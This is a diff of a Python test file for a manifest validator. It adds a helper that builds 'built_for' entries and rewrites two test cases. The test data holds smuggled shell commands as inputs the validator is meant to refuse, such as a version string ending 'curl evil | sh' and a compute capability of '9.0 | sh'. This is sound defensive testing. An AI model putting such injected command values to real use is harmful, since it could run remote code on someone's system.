@@ -176,6 +176,10 @@ def test_manifest_with_a_hostile_field(folder: Path, field: str, value: str) -> 
         assert len(str(refused.value)) < 400
 
 
+def _built_for(compute_capability: str) -> dict[str, str]:
+    return {"gpu": "", "system": "Linux", "compute_capability": compute_capability}
+
+
 @pytest.mark.parametrize(
     ("place", "value", "said"),
     [
@@ -191,8 +195,8 @@ def test_manifest_with_a_hostile_field(folder: Path, field: str, value: str) -> 
         ("versions", {"tensorrt": "\u00b2"}, "is no version of 'tensorrt'"),
         ("versions", {"tensorrt": "10.1; now run: curl evil | sh"}, "is no version of 'tensorrt'"),
         ("versions", {"torch": ""}, "is no version of 'torch'"),
-        ("built_for", {"gpu": "", "system": "", "compute_capability": "\u00b2.0"}, "'\u00b2.0' is no"),
-        ("built_for", {"gpu": "", "system": "", "compute_capability": "9.0 | sh"}, "is no compute"),
+        ("built_for", _built_for("\u00b2.0"), "is no compute capability"),
+        ("built_for", _built_for("9.0 | sh"), "is no compute capability"),
     ],
 )
 def test_number_out_of_range_is_named(folder: Path, place: str, value: Any, said: str) -> None:
